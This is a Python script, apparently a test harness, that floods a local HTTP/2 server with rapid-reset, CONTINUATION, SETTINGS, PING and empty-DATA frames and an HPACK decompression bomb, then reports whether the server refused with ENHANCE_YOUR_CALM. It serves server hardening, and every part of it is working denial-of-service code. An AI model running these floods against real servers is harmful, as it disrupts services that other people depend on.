"""Clients of HTTP/2 that ask too much, over a plain socket.

    frames.py PORT KIND   does one kind of it as long as it is let; prints what the other side said last
"""

import socket
import struct
import sys

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
GOOD = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a.example"), ("x-user-id", "1")]


def frame(kind, flags, stream, payload=b""):
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def section(fields):
    """Fields, nothing compressed."""
    return b"".join(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields)


def floods():
    """For each kind: how many times what is sent."""
    good = section(GOOD)
    post = section([(":method", "POST"), *GOOD[1:]])
    # A name of 4000 bytes in the table, and then nothing but references to it: a section of 16 KB says 64 MB.
    bomb = b"\x40\x01a\x7f" + b"\xa1\x1e" + b"b" * 4000 + b"\xbe" * 12000
    return {
        "rapid-reset": (100_000, lambda i: frame(HEADERS, 5, 2 * i + 1, good) + frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08")),
        "continuation": (100_000, lambda i: frame(CONTINUATION, 0, 1, b"") if i else frame(HEADERS, 1, 1, good[:5])),
        "settings": (1_000_000, lambda i: frame(SETTINGS, 0, 0)),
        "ping": (1_000_000, lambda i: frame(PING, 0, 0, bytes(8))),
        "empty-data": (1_000_000, lambda i: frame(DATA, 0, 1) if i else frame(HEADERS, 4, 1, post)),
        "header-bomb": (10_000, lambda i: frame(HEADERS, 5, 2 * i + 1, bomb)),
    }


def main():
    """Sends until it is over."""
    port, kind = int(sys.argv[1]), sys.argv[2]
    count, make = floods()[kind]
    connection = socket.create_connection(("127.0.0.1", port), timeout=30)
    heard = b""
    connection.setblocking(False)
    waiting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
    made = 0
    import selectors
    selector = selectors.DefaultSelector()
    selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
    is_over = False
    while not is_over:
        if not waiting and made < count:
            many = min(1000, count - made)
            waiting = b"".join(make(made + i) for i in range(many))
            made += many
        if not waiting and made == count:
            selector.modify(connection, selectors.EVENT_READ)
        for _, events in selector.select(5) or [(None, None)]:
            if events is None:
                is_over = True
                break
            try:
                if events & selectors.EVENT_READ:
                    some = connection.recv(1 << 16)
                    is_over = not some
                    heard = (heard + some)[-4096:]
                if events & selectors.EVENT_WRITE and waiting:
                    waiting = waiting[connection.send(waiting):]
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                is_over = True
    print(made, "ENHANCE_YOUR_CALM" if b"\0\0\x08\x07\0\0\0\0\0" in heard and heard[-4:] == b"\0\0\0\x0b" else "", flush=True)


if __name__ == "__main__":
    main()
